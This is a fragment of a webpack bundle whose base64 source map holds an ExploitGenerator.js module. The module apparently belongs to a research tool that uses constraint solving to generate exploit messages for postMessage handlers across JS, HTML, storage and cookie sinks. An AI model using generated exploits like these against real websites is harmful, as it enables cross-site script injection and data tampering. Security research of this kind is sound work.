uICAgICAgICAgIFwib2xkX2lkZW50aWZpZXJcIjogXCJldmVudFwiLFxuICAgICAgICAgIFwib2xkX29wc1wiOiBbXVxuICAgICAgICB9LFxuICAgICAgICB7XG4gICAgICAgICAgXCJ0eXBlXCI6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgICAgICAgXCJmdW5jdGlvbl9uYW1lXCI6IFwic3Vic3RyaW5nXCIsXG4gICAgICAgICAgXCJhcmdzXCI6IFtcbiAgICAgICAgICAgIDAsIDdcbiAgICAgICAgICBdXG4gICAgICAgIH0sXG4gICAgICAgIHtcbiAgICAgICAgICBcInR5cGVcIjogJ0JpbmFyeScsXG4gICAgICAgICAgXCJzaWRlXCI6IFwibGVmdFwiLFxuICAgICAgICAgIFwidmFsXCI6IFwiaHR0cDovL1wiLFxuICAgICAgICAgIFwib3BcIjogJz09PSdcbiAgICAgICAgfVxuICAgICAgXSxcbiAgICAgIFwiaWRlbnRpZmllclwiOiBcImV2ZW50Lm9yaWdpblwiXG4gICAgfSwgcl92YWw6IHtcbiAgICAgIFwib3BzXCI6IFtcbiAgICAgICAge1xuICAgICAgICAgIFwidHlwZVwiOiBcIm9wc19vbl9wYXJlbnRfZWxlbWVudFwiLFxuICAgICAgICAgIFwib2xkX2lkZW50aWZpZXJcIjogXCJldmVudFwiLFxuICAgICAgICAgIFwib2xkX29wc1wiOiBbXVxuICAgICAgICB9LFxuICAgICAgICB7XG4gICAgICAgICAgXCJ0eXBlXCI6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgICAgICAgXCJmdW5jdGlvbl9uYW1lXCI6IFwic3Vic3RyaW5nXCIsXG4gICAgICAgICAgXCJhcmdzXCI6IFtcbiAgICAgICAgICAgIDAsIDhcbiAgICAgICAgICBdXG4gICAgICAgIH0sXG4gICAgICAgIHtcbiAgICAgICAgICBcInR5cGVcIjogJ0JpbmFyeScsXG4gICAgICAgICAgXCJzaWRlXCI6IFwibGVmdFwiLFxuICAgICAgICAgIFwidmFsXCI6IFwiaHR0cHM6Ly9cIixcbiAgICAgICAgICBcIm9wXCI6ICc9PT0nXG4gICAgICAgIH1cbiAgICAgIF0sXG4gICAgICBcImlkZW50aWZpZXJcIjogXCJldmVudC5vcmlnaW5cIlxuICAgIH1cbiAgfVxufVxuXG5mdW5jdGlvbiBnZXRDb29raWVFeHBsb2l0cyhzaW5rT2JqZWN0KSB7XG4gIGxldCBub25jZTEgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IGV4cGxvaXRzID0gbmV3IE1hcCgpO1xuXG5cbiAgbGV0IGNvbnN0cmFpbnRzID0gZGVlcENsb25lKHNpbmtPYmplY3QpO1xuICBjb25zdHJhaW50cy5vcHMucHVzaCh7XG4gICAgXCJ0eXBlXCI6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgXCJmdW5jdGlvbl9uYW1lXCI6IFwic3RhcnRzV2l0aFwiLFxuICAgIFwiYXJnc1wiOiBbbm9uY2UxICsgJz0nICsgbm9uY2UxICsgJzsnXVxuICB9KTtcbiAgZXhwbG9pdHMuc2V0KG5vbmNlMSwgY29uc3RyYWludHMpO1xuXG4gIHJldHVybiBleHBsb2l0c1xufVxuXG5hc3luYyBmdW5jdGlvbiBnZW5lcmF0ZUV4cGxvaXRGb3JSZXBvcnQocmVwb3J0LCBoYW5kbGVyX2lkKSB7XG4gIGNvbnNvbGUubG9nKCc9PT09PT09PT09PT09Jyk7XG4gIGNvbnNvbGUubG9nKCdTdGFydGluZyBleHBsb2l0IGdlbmVyYXRpb24gZm9yICcsIHJlcG9ydCk7XG4gIGxldCBpbmZlcnJlZF90eXBlcyA9IHt9O1xuICB0cnkge1xuICAgIC8vaW5mZXJyZWRfdHlwZXMgPSBpbmZlclR5cGVzKHJlcG9ydC5ldilcbiAgICBpbmZlcnJlZF90eXBlcyA9IHJlcG9ydC50eXBlSW5mbztcbiAgfSBjYXRjaCAoZSkge1xuICAgIGNvbnNvbGUuZXJyb3IoJ0Vycm9yIHdoZW4gaW5mZXJpbmcgdHlwZXMnLCBlKVxuICB9XG4gIGxldCBzaW5rX29ial9jb25zdHJhaW50cztcbiAgc3dpdGNoIChTSU5LX01BUFBJTkdbcmVwb3J0LnNpbmtdKSB7XG4gICAgY2FzZSAnSlMnOlxuICAgICAgc2lua19vYmpfY29uc3RyYWludHMgPSBnZXRKU0V4cGxvaXRzKHJlcG9ydC5zaW5rT2JqZWN0KTtcbiAgICAgIGJyZWFrO1xuICAgIGNhc2UgJ0hUTUwnOlxuICAgICAgc2lua19vYmpfY29uc3RyYWludHMgPSBnZXRIVE1MRXhwbG9pdHMocmVwb3J0LnNpbmtPYmplY3QpO1xuICAgICAgYnJlYWs7XG4gICAgY2FzZSAnc3RvcmFnZSc6XG4gICAgICBzaW5rX29ial9jb25zdHJhaW50cyA9IGdldFN0b3JhZ2VFeHBsb2l0cyhyZXBvcnQua2V5X29iaiwgcmVwb3J0LnZhbF9vYmopO1xuICAgICAgYnJlYWs7XG4gICAgY2FzZSAnY29va2llJzpcbiAgICAgIHNpbmtfb2JqX2NvbnN0cmFpbnRzID0gZ2V0Q29va2llRXhwbG9pdHMocmVwb3J0LnNpbmtPYmplY3QpO1xuICAgICAgYnJlYWs7XG5cbiAgICBkZWZhdWx0OlxuICAgICAgdGhyb3cgRXJyb3IoJ1Npbmsgbm90IHlldCBzdXBwb3J0ZWQgJyArIHJlcG9ydC5zaW5rKVxuICB9XG5cbiAgbGV0IGNzID0gcmVwb3J0Wydjb25zdHJhaW50cyddO1xuICBsZXQgY29uc3RyYWludElkID0gYXdhaXQgd2luZG93Ll9fcmVwb3J0QmFzZUNvbnN0cmFpbnQoY3MsIGhhbmRsZXJfaWQpO1xuXG4gIGxldCBvcmlnaW5fY29uc3RyYWludCA9IGdldE9yaWdpbkNvbnN0cmFpbnRzKCk7XG4gIGxldCBleHBsb2l0X2NhbmRpZGF0ZXMgPSBbXTtcbiAgZm9yIChsZXQgZXhwbG9pdElkIG9mIHNpbmtfb2JqX2NvbnN0cmFpbnRzLmtleXMoKSkge1xuICAgIGxldCBjYW5kaWRhdGUgPSBzaW5rX29ial9jb25zdHJhaW50cy5nZXQoZXhwbG9pdElkKTtcbiAgICBsZXQgY3NfY2xvbmVkID0gZGVlcENsb25lKGNzKTtcbiAgICAvLyBhcHBlbmQgZXhwbG9pdCBjb25zdHJhaW50c1xuICAgIGNzX2Nsb25lZC5wdXNoKGNhbmRpZGF0ZSk7XG4gICAgLy8gYXBwZW5kIGNvbnN0cmFpbnRzIGZvciBvcmlnaW4sIGUuZy4gc3RhcnRzIHdpdGggaHR0cCBldGNcbiAgICBjc19jbG9uZWQucHVzaChvcmlnaW5fY29uc3RyYWludCk7XG4gICAgLy8gc29sdmVcbiAgICBsZXQgcmVzID0gYXdhaXQgd2luZG93Ll9fdHJ5U29sdmVGb3JTYXQoY3NfY2xvbmVkLCBpbmZlcnJlZF90eXBlcywgY29uc3RyYWludElkLCBbY2FuZGlkYXRlLCBvcmlnaW5fY29uc3RyYWludF0sIHJlcG9ydFsnc2luayddKTtcbiAgICBpZiAocmVzICE9PSB1bmRlZmluZWQpIHtcbiAgICAgIGV4cGxvaXRfY2FuZGlkYXRlcy5wdXNoKHtleHBsb2l0Q2FuZGlkYXRlSWQ6IHJlc1sxXSwgZXhwbG9pdElkOiBleHBsb2l0SWQsIHBheWxvYWRfc2F0OiByZXNbMF19KTtcbiAgICB9XG4gIH1cbiAgaWYgKGV4cGxvaXRfY2FuZGlkYXRlcy5sZW5ndGggPT09IDApIHtcbiAgICByZXR1cm4gdW5kZWZpbmVkXG4gIH1cbiAgbGV0IG1lc3NhZ2VzID0gW107XG4gIGZvciAobGV0IGVudHJ5IG9mIGV4cGxvaXRfY2FuZGlkYXRlcykge1xuICAgIGxldCBtZXNzMSA9IGdlbmVyYXRlT2JqZWN0RnJvbUFzc2lnbmVtZW50cyhlbnRyeVsncGF5bG9hZF9zYXQnXVsnYXNzaWduZW1lbnRzJ10pWydldmVudCddO1xuICAgIGxldCBtZXNzMiA9IGdlbmVyYXRlT2JqZWN0RnJvbUFzc2lnbmVtZW50cyhlbnRyeVsncGF5bG9hZF9zYXQnXVsnYXNzaWduZW1lbnRzJ10sIHVuZGVmaW5lZCwgZmFsc2UpWydldmVudCddO1xuICAgIG1lc3NhZ2VzLnB1c2goe1xuICAgICAgZXhwbG9pdElkOiBlbnRyeVsnZXhwbG9pdElkJ10sXG4gICAgICBleHBsb2l0Q2FuZGlkYXRlSWQ6IGVudHJ5WydleHBsb2l0Q2FuZGlkYXRlSWQnXSxcbiAgICAgIG1lc3NhZ2U6IGFkanVzdEZvclR5cGVzKG1lc3MxLCBlbnRyeVsncGF5bG9hZF9zYXQnXVsndHlwZXMnXSlcbiAgICB9KTtcbiAgICBtZXNzYWdlcy5wdXNoKHtcbiAgICAgIGV4cGxvaXRJZDogZW50cnlbJ2V4cGxvaXRJZCddLFxuICAgICAgZXhwbG9pdENhbmRpZGF0ZUlkOiBlbnRyeVsnZXhwbG9pdENhbmRpZGF0ZUlkJ10sXG4gICAgICBtZXNzYWdlOiBhZGp1c3RGb3JUeXBlcyhtZXNzMiwgZW50cnlbJ3BheWxvYWRfc2F0J11bJ3R5cGVzJ10pXG4gICAgfSk7XG5cbiAgfVxuICByZXR1cm4ge1xuICAgIGNhbmRpZGF0ZXM6IG1lc3NhZ2VzLFxuICAgIHNpbms6IHJlcG9ydC5zaW5rXG4gIH07XG59XG5cbmZ1bmN0aW9uIGFkanVzdEZvclR5cGVzKG9iaiwgdHlwZXMpIHtcbiAgZm9yIChsZXQga2V5IG9mIE9iamVjdC5rZXlzKHR5cGVzKSkge1xuICAgIGlmICh0eXBlc1trZXldICE9PSAnSlNPTicpIHtcbiAgICAgIGNvbnRpbnVlO1xuICAgIH1cbiAgICBsZXQgc3BsaXR0ZWQgPSBrZXkuc3BsaXQoJy4nKTtcbiAgICBsZXQgbGFzdCA9IHNwbGl0dGVkLnNsaWNlKC0xKTtcbiAgICBsZXQgYWNjZXNzb3JzID0gc3BsaXR0ZWQuc2xpY2UoMCwgc3BsaXR0ZWQubGVuZ3RoIC0gMSk7XG4gICAgbGV0IGN1cl9vYmogPSBvYmo7XG4gICAgZm9yIChsZXQgYWNjZXNzb3Igb2YgYWNjZXNzb3JzKSB7XG4gICAgICBpZiAoYWNjZXNzb3Iuc3RhcnRzV2l0aCgnX19lbGVtX18nKSkge1xuICAgICAgICBsZXQgbnVtID0gcGFyc2VJbnQoYWNjZXNzb3Iuc2xpY2UoOCkpO1xuICAgICAgICBpZiAoIUFycmF5LmlzQXJyYXkoY3VyX29iaikpIHtcbiAgICAgICAgfVxuICAgICAgICBhY2Nlc3NvciA9IG51bTtcbiAgICAgIH1cbiAgICAgIGlmIChjdXJfb2JqW2FjY2Vzc29yXSA9PT0gdW5kZWZpbmVkKSB7XG4gICAgICAgIGJyZWFrO1xuICAgICAgfVxuICAgICAgY3VyX29iaiA9IGN1cl9vYmpbYWNjZXNzb3JdO1xuICAgIH1cbiAgICBjdXJfb2JqW2xhc3RdID0gSlNPTi5zdHJpbmdpZnkoY3VyX29ialtsYXN0XSlcbiAgfVxuICByZXR1cm4gb2JqXG59XG5cbmZ1bmN0aW9uIGdlbmVyYXRlT2JqZWN0RnJvbUFzc2lnbmVtZW50cyhhc3NpZ25lbWVudCwgb2JqID0gdW5kZWZpbmVkLCBkb250X3VzZV9lbXB0eSA9IHRydWUpIHtcbiAgaWYgKG9iaiA9PT0gdW5kZWZpbmVkKSB7XG4gICAgb2JqID0ge307XG4gIH1cbiAgZm9yIChsZXQga2V5IG9mIE9iamVjdC5rZXlzKGFzc2lnbmVtZW50KSkge1xuICAgIGlmIChkb250X3VzZV9lbXB0eSAmJiBhc3NpZ25lbWVudFtrZXldID09PSAnJykge1xuICAgICAgY29udGludWVcbiAgICB9XG4gICAgaWYgKHR5cGVvZiBhc3NpZ25lbWVudFtrZXldID09PSAnc3RyaW5nJykge1xuICAgICAgYXNzaWduZW1lbnRba2V5XSA9IGFzc2lnbmVtZW50W2tleV0ucmVwbGFjZSgvXFxcXHgoWzAtOUEtRl17Mn0pL2lnLCBmdW5jdGlvbiAoKSB7XG4gICAgICAgIHJldHVybiBTdHJpbmcuZnJvbUNoYXJDb2RlKHBhcnNlSW50KGFyZ3VtZW50c1sxXSwgMTYpKTtcbiAgICAgIH0pO1xuICAgIH1cbiAgICBsZXQgc3BsaXR0ZWQgPSBrZXkuc3BsaXQoJy4nKTtcbiAgICBsZXQgbGFzdCA9IHNwbGl0dGVkLnNsaWNlKC0xKTtcbiAgICBsZXQgYWNjZXNzb3JzID0gc3BsaXR0ZWQuc2xpY2UoMCwgc3BsaXR0ZWQubGVuZ3RoIC0gMSk7XG4gICAgbGV0IGN1cl9vYmogPSBvYmo7XG4gICAgZm9yIChsZXQgYWNjZXNzb3Igb2YgYWNjZXNzb3JzKSB7XG4gICAgICBpZiAoYWNjZXNzb3Iuc3RhcnRzV2l0aCgnX19lbGVtX18nKSkge1xuICAgICAgICBsZXQgbnVtID0gcGFyc2VJbnQoYWNjZXNzb3Iuc2xpY2UoOCkpO1xuICAgICAgICBpZiAoIUFycmF5LmlzQXJyYXkoY3VyX29iaikpIHtcbiAgICAgICAgfVxuICAgICAgICBhY2Nlc3NvciA9IG51bTtcbiAgICAgIH1cbiAgICAgIGlmIChjdXJfb2JqW2FjY2Vzc29yXSA9PT0gdW5kZWZpbmVkKSB7XG4gICAgICAgIGN1cl9vYmpbYWNjZXNzb3JdID0ge307XG4gICAgICB9IGVsc2Uge1xuICAgICAgICBhZGRQcm9wVG9PYmooY3VyX29iaiwgYWNjZXNzb3IpO1xuICAgICAgfVxuICAgICAgY3VyX29iaiA9IGN1cl9vYmpbYWNjZXNzb3JdO1xuICAgIH1cbiAgICBpZiAoY3VyX29ialtsYXN0WzBdXSA9PT0gdW5kZWZpbmVkKVxuICAgICAgY3VyX29ialtsYXN0WzBdXSA9IGFzc2lnbmVtZW50W2tleV07XG4gICAgZWxzZSB7XG4gICAgICAvLyB0aGlzIGNhc2Ugb25seSBoYXBwZW5zIHdoZW4gd2UgaGF2ZSBhbiBhc3NpZ25lbWVudCBmb3IgYSBwYXJlbnQgb2JqZWN0IHdoaWNoIGlzIGhvd2V2ZXIgYWxyZWFkeSBhbiBvYmplY3QgdGh1cyB3ZSBjYW5ub3QgZG8gaXRcbiAgICAgIGN1cl9vYmpbbGFzdFswXV1bJ19faG9wZV9mb3JfdGhlX2Jlc3QnXSA9IGFzc2lnbmVtZW50W2tleV1cbiAgICB9XG4gIH1cbiAgcmVzb2x2ZVN1YnN0aXR1dGVWYWxzKG9iaiwgb2JqKTtcbiAgcmV0dXJuIG9iajtcbn1cblxuZnVuY3Rpb24gcmVzb2x2ZVN1YnN0aXR1dGVWYWxzKG9iaiwgZykge1xuICBpZiAoQXJyYXkuaXNBcnJheShvYmopKSB7XG4gICAgZm9yIChsZXQgaSA9IDA7IGkgPCBvYmoubGVuZ3RoOyBpKyspIHtcbiAgICAgIGxldCBlbGVtID0gcmVzb2x2ZVN1YnN0aXR1dGVWYWxzKG9ialtpXSwgZyk7XG4gICAgICBpZiAoZWxlbSkge1xuICAgICAgICBvYmpbaV0gPSBlbGVtO1xuICAgICAgfVxuICAgIH1cbiAgfSBlbHNlIGlmICh0eXBlb2Ygb2JqID09PSAnb2JqZWN0Jykge1xuICAgIGZvciAobGV0IGtleSBvZiBPYmplY3Qua2V5cyhvYmopKSB7XG4gICAgICBsZXQgZWxlbSA9IHJlc29sdmVTdWJzdGl0dXRlVmFscyhvYmpba2V5XSwgZyk7XG4gICAgICBpZiAoZWxlbSkge1xuICAgICAgICBvYmpba2V5XSA9IGVsZW1cbiAgICAgIH1cbiAgICB9XG4gIH0gZWxzZSBpZiAodHlwZW9mIG9iaiA9PT0gJ3N0cmluZycgJiYgb2JqLnN0YXJ0c1dpdGgoJ19fc3Vic3RpdHV0ZV92YWx1ZXNfJykpIHtcbiAgICByZXR1cm4gZ1tvYmpdO1xuICB9XG59XG5cbmV4cG9ydCB7Z2VuZXJhdGVFeHBsb2l0Rm9yUmVwb3J0fVxuIl0sIm1hcHBpbmdzIjoiQUFBQTtBQUFBO0FBQUE7QUFBQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTsiLCJzb3VyY2VSb290IjoiIn0=\n//# sourceURL=webpack-internal:///./ExploitGenerator.js\n");
 
 /***/ }),
 